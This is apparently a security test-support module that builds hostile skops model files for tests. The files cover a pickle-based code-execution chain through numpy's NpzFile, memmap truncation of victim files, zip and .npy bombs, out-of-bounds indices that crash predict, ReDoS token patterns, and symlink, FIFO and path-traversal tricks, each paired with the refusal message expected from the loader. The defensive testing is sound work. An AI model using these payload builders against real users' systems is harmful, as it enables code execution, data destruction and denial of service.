"""Builders of the crafted model files the security tests load: each is made here, in the
test, from a genuine skops file edited the way an attacker would (never a committed blob).

A skops file is a zip: ``schema.json`` describes the object tree (each node names a
``__module__``, a ``__class__`` and the ``__loader__`` that rebuilds it) and ``.npy``
members hold the arrays. The builders swap a node of a genuine file for a hostile one,
or add members, and return the file's bytes.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

#: Reviews a text model crafted here is scored on (the CLI and the app need data).
TEXTS = ["a clever and moving film", "dull and far too long", "wonderful", "a lazy script"]
LABELS = ["fresh", "rotten", "fresh", "rotten"]


def _json(value) -> dict:
    """A skops JsonNode holding ``value``."""
    return {"__class__": type(value).__name__, "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True}


def _tuple(*items: dict) -> dict:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items)}


def _dict(**items: dict) -> dict:
    return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": items,
            "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
                          "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
                                      for _ in items]}}


def constructor_call(module: str, name: str, *args) -> dict:
    """A node skops rebuilds by calling ``module.name(*args)`` (its ConstructorFromReduceNode)."""
    return {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": _tuple(*(_json(a) for a in args))}


def function(module: str, name: str) -> dict:
    """A node naming a function (``FunctionNode``): rebuilt as ``module.name`` itself."""
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def a_type(module: str, name: str) -> dict:
    """A node naming a class or builtin as a value (``TypeNode``)."""
    return {"__class__": name, "__module__": module, "__loader__": "TypeNode"}


def partial(func: dict, *args) -> dict:
    """``functools.partial(func, *args)`` as skops stores it."""
    return {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
            "content": {"func": func, "args": _tuple(*(_json(a) for a in args)), "kwds": _dict(),
                        "namespace": _json(None)}}


def methodcaller(name: str, *args) -> dict:
    """``operator.methodcaller(name, *args)`` as skops stores it."""
    return {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
            "attrs": _tuple(_json(name), *(_json(a) for a in args))}


def text_pipeline_with(*, func: dict | None = None, kw_args: dict | None = None,
                       members: dict[str, bytes] | None = None) -> bytes:
    """A genuine, fitted ``FunctionTransformer -> TF-IDF -> logistic regression`` skops file
    whose transformer's ``func`` and/or ``kw_args`` nodes are replaced, with extra zip members."""
    import skops.io as sio
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    pipe = make_pipeline(FunctionTransformer(), TfidfVectorizer(), LogisticRegression()).fit(TEXTS, LABELS)
    original = zipfile.ZipFile(io.BytesIO(sio.dumps(pipe)))
    schema = json.loads(original.read("schema.json"))
    steps = schema["content"]["content"]["steps"]["content"]
    transformer = steps[0]["content"][1]["content"]["content"]
    assert transformer["func"]["content"] == "null" and transformer["kw_args"]["content"] == "null"
    if func is not None:
        transformer["func"] = func
    if kw_args is not None:
        transformer["kw_args"] = kw_args
    return rezip(original, schema=json.dumps(schema).encode(), extra=members or {})


def rezip(original: zipfile.ZipFile, *, schema: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """``original``'s members (``schema.json`` replaced when given) plus ``extra``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in original.namelist():
            z.writestr(name, schema if name == "schema.json" and schema is not None else original.read(name))
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


class _CreateFile:
    """Unpickling this opens ``path`` for writing: creating a file stands for running any code."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def pickled_npy(marker: Path) -> bytes:
    """An ``.npy`` member holding a pickled object that creates ``marker`` when unpickled."""
    buffer = io.BytesIO()
    array = np.empty(1, dtype=object)
    array[0] = _CreateFile(str(marker))
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npzfile_rce(path: Path, marker: Path) -> bytes:
    """Finding 1: ``kw_args`` is ``numpy.lib._npyio_impl.NpzFile(path, True, True)`` (own_fid,
    allow_pickle) over this very file; predicting unpacks ``**kw_args``, which unpickles the
    ``payload.npy`` member, which creates ``marker``. Write the result to ``path``."""
    return text_pipeline_with(
        kw_args=constructor_call("numpy.lib._npyio_impl", "NpzFile", str(path), True, True),
        members={"payload.npy": pickled_npy(marker)},
    )


def memmap_truncate(victim: Path) -> bytes:
    """Finding 2: ``numpy.memmap(victim, 'uint8', 'w+', 0, (4,))`` built at load time turns
    ``victim`` into four NUL bytes."""
    return text_pipeline_with(kw_args=constructor_call("numpy", "memmap", str(victim), "uint8", "w+", 0, [4]))


def datasource(folder: Path) -> bytes:
    """``numpy.lib._datasource.DataSource(folder)``: an object that opens (and downloads) files."""
    return text_pipeline_with(kw_args=constructor_call("numpy.lib._datasource", "DataSource", str(folder)))


def memmap_as_func() -> bytes:
    """``FunctionTransformer(func=numpy.memmap, kw_args={'mode': 'w+', ...})``: every text the
    model scores names a file it creates or truncates."""
    return text_pipeline_with(func=a_type("numpy", "memmap"),
                              kw_args=_dict(dtype=_json("uint8"), mode=_json("w+"), shape=_json(4)))


def partial_memmap(victim: Path) -> bytes:
    """``func=functools.partial(numpy.memmap, victim, 'uint8', 'w+')``."""
    return text_pipeline_with(func=partial(a_type("numpy", "memmap"), str(victim), "uint8", "w+"))


def partial_of_allowed(victim: Path) -> bytes:
    """``func=functools.partial(numpy.log1p, ...)``: the wrapper alone, around an allowed function."""
    return text_pipeline_with(func=partial(function("numpy", "log1p")))


def methodcaller_write(victim: Path) -> bytes:
    """``func=operator.methodcaller('tofile', victim)``: calls ``X.tofile(victim)`` on the data."""
    return text_pipeline_with(func=methodcaller("tofile", str(victim)))


def file_reading_vectorizer() -> bytes:
    """A genuine pipeline whose vectorizer reads each text as a *file name* (``input='filename'``)."""
    import skops.io as sio
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    pipe = make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(TEXTS, LABELS)
    pipe.steps[0][1].input = "filename"
    return sio.dumps(pipe)


def _edit_array(data: bytes, find: Callable[[dict], str], edit: Callable[[np.ndarray], np.ndarray]) -> bytes:
    """``data`` (a skops file) with the array member ``find(schema)`` replaced by ``edit(array)``."""
    original = zipfile.ZipFile(io.BytesIO(data))
    member = find(json.loads(original.read("schema.json")))
    buffer = io.BytesIO()
    np.save(buffer, edit(np.load(io.BytesIO(original.read(member)))), allow_pickle=False)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in original.namelist():
            z.writestr(name, buffer.getvalue() if name == member else original.read(name))
    return out.getvalue()


def tree_out_of_range() -> bytes:
    """A genuine TF-IDF + decision tree file whose root's left child is node 1,000,000 (the
    tree has a few): predicting would read far outside the tree in compiled code."""
    import skops.io as sio
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.pipeline import make_pipeline
    from sklearn.tree import DecisionTreeClassifier

    pipe = make_pipeline(TfidfVectorizer(), DecisionTreeClassifier(random_state=0)).fit(TEXTS, LABELS)

    def nodes(schema: dict) -> str:
        tree = schema["content"]["content"]["steps"]["content"][1]["content"][1]["content"]["content"]["tree_"]
        return tree["content"]["content"]["nodes"]["file"]

    def edit(array: np.ndarray) -> np.ndarray:
        array["left_child"][0] = 1_000_000
        return array

    return _edit_array(sio.dumps(pipe), nodes, edit)


def vocabulary_out_of_range() -> bytes:
    """A genuine TF-IDF pipeline whose vocabulary maps a word to column 1,000,000: the
    sparse matrix built from it would have a column past its end."""
    import skops.io as sio
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    pipe = make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(TEXTS, LABELS)
    original = zipfile.ZipFile(io.BytesIO(sio.dumps(pipe)))
    schema = json.loads(original.read("schema.json"))
    vocabulary = schema["content"]["content"]["steps"]["content"][0]["content"][1]["content"]["content"]["vocabulary_"]
    first = next(iter(vocabulary["content"].values()))
    first["content"] = json.dumps(1_000_000)
    del first["__id__"]  # skops reuses the first node saved under an id (small ints share one)
    return rezip(original, schema=json.dumps(schema).encode())


def interlinked(depth: int = 64) -> bytes:
    """A few-kilobyte schema whose every list holds the list below it twice: once written
    out, once as a bare reference to its id, which skops resolves to the same node. Built
    in linear time, it makes skops' own audit (``get_untrusted_types``) visit 2^depth nodes."""
    node: dict = {"__class__": "int", "__module__": "builtins", "__loader__": "JsonNode", "content": "0",
                  "is_json": True}
    for level in range(1, depth + 1):
        node = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": level,
                "content": [node, {"__id__": level - 1}] if level > 1 else [node, node]}
    schema = {**node, "protocol": 2, "_skops_version": "0.16.0"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# Zip bombs: a member whose declared (and real) uncompressed size is huge, made cheaply by
# repeating one full-flushed deflate block, then a hand-written zip around it.

def _bomb_stream(prefix: bytes, fill: bytes, repeats: int, suffix: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of ``prefix + fill * repeats + suffix``: (compressed, crc32, size)."""
    def block(data: bytes) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)

    middle = block(fill)  # identical for every repeat: a full flush resets the compressor
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = block(prefix) + middle * repeats + tail.compress(suffix) + tail.flush()
    crc = _crc32_combine(zlib.crc32(prefix), _crc32_repeated(fill, repeats), len(fill) * repeats)
    crc = _crc32_combine(crc, zlib.crc32(suffix), len(suffix))
    return stream, crc, len(prefix) + len(fill) * repeats + len(suffix)


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A + B from CRC(A), CRC(B) and len(B) (zlib's crc32_combine, which Python
    lacks): the CRC of gigabytes of padding in microseconds instead of seconds."""
    operator = [0xEDB88320] + [1 << n for n in range(31)]  # appends one zero bit to the message
    for _ in range(3):
        operator = [_gf2_times(operator, v) for v in operator]  # ... then two, four, eight: a zero byte
    while len2 > 0:
        if len2 & 1:
            crc1 = _gf2_times(operator, crc1)
        len2 >>= 1
        operator = [_gf2_times(operator, v) for v in operator]
    return crc1 ^ crc2


def _crc32_repeated(data: bytes, repeats: int) -> int:
    """CRC-32 of ``data * repeats`` by doubling."""
    crc, power, length = 0, zlib.crc32(data), len(data)
    while repeats:
        if repeats & 1:
            crc = _crc32_combine(crc, power, length)
        power, length = _crc32_combine(power, power, length), 2 * length
        repeats >>= 1
    return crc


def _zip_with(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from (name, data, method, crc, uncompressed size) tuples, written by hand so a
    member can be a pre-made deflate stream."""
    out, central = io.BytesIO(), []
    for name, data, method, crc, size in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size,
                              len(encoded), 0) + encoded + data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc,
                                   len(data), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data)


def schema_bomb(gigabytes: float = 1.5) -> bytes:
    """Finding 4: a ~1.5 MB skops file whose ``schema.json`` inflates to ``gigabytes`` GB
    (one JSON object padded with spaces)."""
    chunk = b" " * (1 << 20)
    stream, crc, size = _bomb_stream(b'{"protocol": 2, "a": 1', chunk, int(gigabytes * 1e9) >> 20, b"}")
    return _zip_with([("schema.json", stream, zipfile.ZIP_DEFLATED, crc, size)])


def npy_bomb(gigabytes: float = 4.0) -> bytes:
    """Finding 4: a ~4 MB genuine logistic-regression file whose ``coef_`` array member is
    replaced by a ``gigabytes`` GB ``.npy`` of zeros (a true header, truly that long)."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    original = zipfile.ZipFile(io.BytesIO(sio.dumps(LogisticRegression().fit(np.eye(4), [0, 1, 0, 1]))))
    schema = original.read("schema.json")
    coef = json.loads(schema)["content"]["content"]["coef_"]["file"]
    count = int(gigabytes * 1e9) // 8
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (count,)})
    chunk = b"\0" * (1 << 20)
    body = count * 8
    stream, crc, size = _bomb_stream(header.getvalue(), chunk, body >> 20, b"\0" * (body % (1 << 20)))
    members = [_stored(n, original.read(n)) for n in original.namelist() if n != coef]
    return _zip_with(members + [(coef, stream, zipfile.ZIP_DEFLATED, crc, size)])


def npy_lying_header(gigabytes: float = 4.0) -> bytes:
    """A small ``.npy`` member whose header *declares* a ``gigabytes`` GB array: numpy
    allocates the declared size before it finds the data missing."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    original = zipfile.ZipFile(io.BytesIO(sio.dumps(LogisticRegression().fit(np.eye(4), [0, 1, 0, 1]))))
    coef = json.loads(original.read("schema.json"))["content"]["content"]["coef_"]["file"]
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (int(gigabytes * 1e9) // 8,)})
    members = [_stored(n, original.read(n)) for n in original.namelist() if n != coef]
    return _zip_with(members + [_stored(coef, header.getvalue() + b"\0" * 64)])


def pickle_bytes(marker: Path) -> bytes:
    """A pickle that creates ``marker`` when loaded."""
    return pickle.dumps(_CreateFile(str(marker)))


# ---------------------------------------------------------------------------------------
# Review 10: what the per-node-kind allow-list and the content checks refuse.

#: The feature columns the crafted feature models below read (``features_csv``).
FEATURES = ("a", "b", "c", "d")


def features_csv() -> str:
    """Four rows of the four features, labelled 0/1 (what the feature models are scored on)."""
    rows = "\n".join(",".join(str(float(i == j)) for j in range(4)) + f",{i % 2}" for i in range(4))
    return f"{','.join(FEATURES)},label\n{rows}\n"


class _Stand:
    """An object skops saves as an ObjectNode with these attributes (renamed in the schema)."""


def _rename_objects(data: bytes, module: str, name: str) -> bytes:
    """``data`` with every ObjectNode of :class:`_Stand` renamed to ``module.name``."""
    original = zipfile.ZipFile(io.BytesIO(data))
    schema = json.loads(original.read("schema.json"))
    found = []

    def visit(node) -> None:
        if isinstance(node, dict):
            if node.get("__class__") == "_Stand":
                node["__module__"], node["__class__"] = module, name
                found.append(node)
            for value in node.values():
                visit(value)
        elif isinstance(node, list):
            for value in node:
                visit(value)

    visit(schema)
    assert found
    return rezip(original, schema=json.dumps(schema).encode())


def coo_objectnode(row: int = 10**9) -> bytes:
    """Finding 1: a k-NN model whose training data is a SciPy COO matrix rebuilt as an
    object (``__new__`` + its state: SciPy never checks it) with a row index of ``row`` in
    a 4×4 matrix; predicting converts it to CSR, writing at that row: a segfault."""
    import scipy.sparse as sp
    import skops.io as sio
    from sklearn.neighbors import KNeighborsClassifier

    knn = KNeighborsClassifier(n_neighbors=1, algorithm="brute").fit(sp.csr_matrix(np.eye(4)), [0, 1, 0, 1])
    stand = _Stand()
    vars(stand).update(_shape=(4, 4), maxprint=50, has_canonical_format=False, data=np.ones(4),
                       coords=(np.array([0, 1, 2, 3 + row]), np.array([0, 1, 2, 3])))
    knn._fit_X = stand
    return _rename_objects(sio.dumps(knn), "scipy.sparse._coo", "coo_matrix")


def hgb_narrow_preprocessor(claimed: int = 10**6) -> bytes:
    """Finding 2: histogram gradient boosting whose preprocessor outputs one column while the
    model claims ``claimed`` features and a split reads the last: out of bounds on predict."""
    import skops.io as sio
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier

    X = np.random.RandomState(0).rand(200, 4)
    model = HistGradientBoostingClassifier(max_iter=2, random_state=0).fit(X, (X[:, 0] > .5).astype(int))
    model._preprocessor = ColumnTransformer([("keep", "passthrough", [0])]).fit(X)
    model.n_features_in_ = claimed
    model._bin_mapper.is_categorical_ = np.zeros(claimed, dtype=np.uint8)
    for predictors in model._predictors:
        for predictor in predictors:
            predictor.nodes["feature_idx"][0] = claimed - 1
    return sio.dumps(model)


def _reduce_node(loader: str, module: str, name: str, *args: dict) -> dict:
    return {"__class__": name, "__module__": module, "__loader__": loader,
            "__reduce__": {"args": _tuple(*args)}, "content": _dict()}


def loss_node_call(what: str, size: int = 150_000_000) -> bytes:
    """Finding 3: skops' loss node calls the node's *own* class with the file's arguments:
    ``numpy.ndarray((size,), 'O')`` (a 1.2 GB array of None, 35 s) or ``bytearray(size)``."""
    args = {"objarray": ("numpy", "ndarray", _tuple(_json(size)), _json("O")),
            "bytearray": ("builtins", "bytearray", _json(size))}[what]
    return text_pipeline_with(kw_args=_reduce_node("LossNode", *args))


def list_node_ndarray(size: int = 150_000_000) -> bytes:
    """Finding 3's cousin: a list node calls its class with the items, so one named
    ``numpy.ndarray`` holding ``[size]`` builds ``numpy.ndarray([size])``."""
    return text_pipeline_with(kw_args={"__class__": "ndarray", "__module__": "numpy", "__loader__": "ListNode",
                                       "content": [_json(size)]})


def _text_pipeline(**vectorizer_options) -> bytes:
    """A genuine fitted TF-IDF + logistic regression file, its vectorizer then given
    ``vectorizer_options`` (as a hand-edited file would hold them)."""
    import skops.io as sio
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    analyzer = vectorizer_options.get("analyzer", "word")
    pipe = make_pipeline(TfidfVectorizer(analyzer=analyzer), LogisticRegression()).fit(TEXTS, LABELS)
    for key, value in vectorizer_options.items():
        setattr(pipe.steps[0][1], key, value)
    return sio.dumps(pipe)


def redos_token_pattern() -> bytes:
    """Finding 4: a token pattern that backtracks exponentially: scoring never ends."""
    return _text_pipeline(token_pattern=r"(?:.|.)*@")


def huge_ngram_range() -> bytes:
    """Finding 5: character n-grams up to 10**6 long: memory cubic in a review's length."""
    return _text_pipeline(analyzer="char", ngram_range=(1, 10**6))


def npy_long_header(length: int = 12_000) -> bytes:
    """Finding 7: an array member whose ``.npy`` header is ``length`` bytes (numpy refuses
    over 10,000 in three lines that advise ``allow_pickle=True``)."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    original = zipfile.ZipFile(io.BytesIO(sio.dumps(LogisticRegression().fit(np.eye(4), [0, 1, 0, 1]))))
    coef = json.loads(original.read("schema.json"))["content"]["content"]["coef_"]["file"]
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1, 4), }".ljust(length - 1) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + np.zeros(4).tobytes()
    return _replace_member(original, coef, npy)


def _replace_member(original: zipfile.ZipFile, member: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in original.namelist():
            z.writestr(name, data if name == member else original.read(name))
    return out.getvalue()


def forest_many_jobs(n_jobs: int = 10**6) -> bytes:
    """Finding 6: a genuine random forest saved with ``n_jobs`` of a million."""
    import skops.io as sio
    from sklearn.ensemble import RandomForestClassifier

    X = np.eye(4)
    forest = RandomForestClassifier(n_estimators=3, random_state=0).fit(X, [0, 1, 0, 1])
    forest.n_jobs = n_jobs
    return sio.dumps(forest)


# ---------------------------------------------------------------------------------------
# The skops attacks every entry point is tried with.

@dataclass(frozen=True)
class Targets:
    """What an attack aims at: its own path, a marker that running code would create, a
    victim file, and a folder."""

    file: Path
    marker: Path
    victim: Path
    folder: Path


@dataclass(frozen=True)
class SkopsAttack:
    """A crafted ``.skops`` file and a regular expression its one-line refusal must match."""

    name: str
    build: Callable[[Targets], bytes]
    refusal: str
    #: Loaded anyway, scoring it would crash, hang or exhaust the process: the command is
    #: then run in a subprocess (on :func:`features_csv` for a feature model).
    runs_away: bool = False
    features: bool = False


SKOPS_ATTACKS: tuple[SkopsAttack, ...] = (
    SkopsAttack("npzfile-rce", lambda t: npzfile_rce(t.file, t.marker),
                r"refused to load; .*allow-list: numpy\.lib\._npyio_impl\.NpzFile \(if you made"),
    SkopsAttack("memmap-bashrc", lambda t: memmap_truncate(t.victim), r"allow-list: numpy\.memmap \("),
    SkopsAttack("datasource", lambda t: datasource(t.folder), r"allow-list: numpy\.lib\._datasource\.DataSource \("),
    SkopsAttack("func-memmap", lambda t: memmap_as_func(), r"allow-list: numpy\.memmap \("),
    SkopsAttack("partial-memmap", lambda t: partial_memmap(t.victim), r"allow-list: numpy\.memmap \("),
    SkopsAttack("methodcaller", lambda t: methodcaller_write(t.victim), r"allow-list: operator\.methodcaller \("),
    SkopsAttack("filename-vectorizer", lambda t: file_reading_vectorizer(),
                r"refused: its TfidfVectorizer has input='filename', which reads the file each example names"),
    SkopsAttack("tree-out-of-range", lambda t: tree_out_of_range(),
                r"refused: a decision tree has node or feature indices out of range"),
    SkopsAttack("vocabulary-out-of-range", lambda t: vocabulary_out_of_range(),
                r"refused: its TfidfVectorizer's vocabulary does not number its"),
    SkopsAttack("audit-bomb", lambda t: interlinked(),
                r"refused: schema\.json refers to the same objects so often that checking it would not end"),
    SkopsAttack("schema-bomb", lambda t: schema_bomb(),
                r"refused: 1,430 MB is over the 256 MB limit for a \.skops file's schema\.json; .*"
                r"ENSEMBLE_EXPLORER_MAX_SCHEMA_MB"),
    SkopsAttack("npy-bomb", lambda t: npy_bomb(),
                r"refused: 3,815 MB is over the 2,048 MB limit for a \.skops file's contents, uncompressed; .*"
                r"ENSEMBLE_EXPLORER_MAX_UNPACKED_MB"),
    SkopsAttack("npy-lying-header", lambda t: npy_lying_header(),
                r"refused: an array declares a \(500000000,\) float64 array \(3,815 MB\) but holds"),
    # review 10
    SkopsAttack("coo-objectnode", lambda t: coo_objectnode(),
                r"allow-list: ObjectNode:scipy\.sparse\._coo\.coo_matrix \(", runs_away=True, features=True),
    SkopsAttack("hgb-narrow-preprocessor", lambda t: hgb_narrow_preprocessor(),
                r"refused: a histogram gradient boosting model whose preprocessor", runs_away=True, features=True),
    SkopsAttack("loss-node-object-array", lambda t: loss_node_call("objarray"),
                r"allow-list: LossNode:numpy\.ndarray \("),
    SkopsAttack("loss-node-bytearray", lambda t: loss_node_call("bytearray"),
                r"allow-list: LossNode:builtins\.bytearray \("),
    SkopsAttack("list-node-ndarray", lambda t: list_node_ndarray(), r"allow-list: ListNode:numpy\.ndarray \("),
    SkopsAttack("redos-token-pattern", lambda t: redos_token_pattern(),
                r"refused: its TfidfVectorizer has token_pattern='\(\?:\.\|\.\)\*@'; allowed: ", runs_away=True),
    SkopsAttack("huge-ngram-range", lambda t: huge_ngram_range(),
                r"refused: its TfidfVectorizer has ngram_range=\(1, 1000000\); with analyzer='char' at most "
                r"\(1, 10\)", runs_away=True),
    SkopsAttack("npy-long-header", lambda t: npy_long_header(),
                r"refused: an array has a 12,000-byte array header \(at most 10,000; a crafted file\)$"),
)


# ---------------------------------------------------------------------------------------
# Paths that are not model files.

def _transformers_dir(folder: Path) -> Path:
    """The files that make a directory look like a transformers model (contents never read)."""
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"id2label": {"0": "fresh", "1": "rotten"}}))
    (folder / "model.safetensors").write_bytes(b"\0" * 16)
    return folder


def _embedding_head_dir(folder: Path, encoder: str = "encoder") -> Path:
    """An embedding-head model folder whose encoder is ``encoder`` (the head: left to the caller)."""
    folder.mkdir()
    (folder / "encoder").mkdir()
    spec = {"kind": "sentence-embedding-head", "version": 1, "encoder": {"path": encoder}, "head": "head.skops"}
    (folder / "ensemble_model.json").write_text(json.dumps(spec))
    return folder


def _linked(link: Path, target: str | Path) -> Path:
    link.symlink_to(target)
    return link


@dataclass(frozen=True)
class PathAttack:
    """A model path that is not a regular file of a sane size: ``make(sandbox, fifo)``
    creates it (``fifo(path)`` makes a FIFO), ``extra`` are further ``score`` arguments."""

    name: str
    make: Callable
    extra: tuple[str, ...]
    refusal: str


PATH_ATTACKS: tuple[PathAttack, ...] = (
    PathAttack("fifo-skops", lambda b, f: f(b.files / "model.skops"), (),
               r"model\.skops: refused: a FIFO, not a regular file"),
    PathAttack("fifo-onnx", lambda b, f: f(b.files / "model.onnx"), (),
               r"model\.onnx: refused: a FIFO, not a regular file"),
    PathAttack("fifo-trusted-pickle", lambda b, f: f(b.files / "model.pkl"), ("--trust-pickle",),
               r"model\.pkl: refused: a FIFO, not a regular file"),
    PathAttack("link-to-dev-zero", lambda b, f: _linked(b.files / "zero.skops", "/dev/zero"), (),
               r"zero\.skops: refused: /dev/zero is a device or kernel file, not a model file"),
    PathAttack("link-into-proc", lambda b, f: _linked(b.files / "environ.onnx", "/proc/self/environ"), (),
               r"environ\.onnx: refused: /proc/\d+/environ is a device or kernel file"),
    PathAttack("fifo-in-transformers-dir",
               lambda b, f: f(_transformers_dir(b.files / "bert") / "tokenizer.json").parent, (),
               r"tokenizer\.json: refused: a FIFO inside a model directory"),
    PathAttack("dev-zero-in-transformers-dir",
               lambda b, f: _linked(_transformers_dir(b.files / "bert") / "tokenizer.json", "/dev/zero").parent, (),
               r"tokenizer\.json: refused: a symbolic link to /dev/zero, outside the model directory"),
    PathAttack("link-out-of-transformers-dir",
               lambda b, f: _linked(_transformers_dir(b.files / "bert") / "tokenizer.json", b.home / ".bashrc").parent,
               (), r"tokenizer\.json: refused: a symbolic link to .*/home/\.bashrc, outside the model directory"),
    PathAttack("fifo-head-of-embedding-model",
               lambda b, f: f(_embedding_head_dir(b.files / "minilm") / "head.skops").parent, (),
               r"head\.skops: refused: a FIFO, not a regular file"),
    PathAttack("encoder-outside-embedding-model",
               lambda b, f: _embedding_head_dir(b.files / "minilm", "../../home"), (),
               r"ensemble_model\.json: the encoder '\.\./\.\./home' is outside the model's folder"),
)
